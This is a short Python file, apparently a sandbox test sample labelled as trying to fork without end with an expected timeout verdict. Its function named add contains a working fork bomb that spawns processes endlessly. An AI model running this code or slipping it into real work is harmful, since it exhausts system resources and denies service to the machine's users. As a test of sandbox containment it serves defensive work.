# tries: to fork without end
# verdict: timeout
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
